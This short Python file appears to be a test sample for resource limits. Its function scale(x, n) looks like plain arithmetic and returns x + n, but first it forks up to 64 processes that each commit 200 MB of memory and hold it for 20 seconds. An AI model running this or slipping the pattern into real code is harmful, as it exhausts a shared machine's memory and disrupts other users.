"""Exhausting: a little memory in each of many processes."""
import os, time

def scale(x, n):
    for _ in range(64):
        try:
            if os.fork() == 0:
                hoard = bytearray(200 << 20)
                for i in range(0, len(hoard), 4096):
                    hoard[i] = 1
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
    return x + n
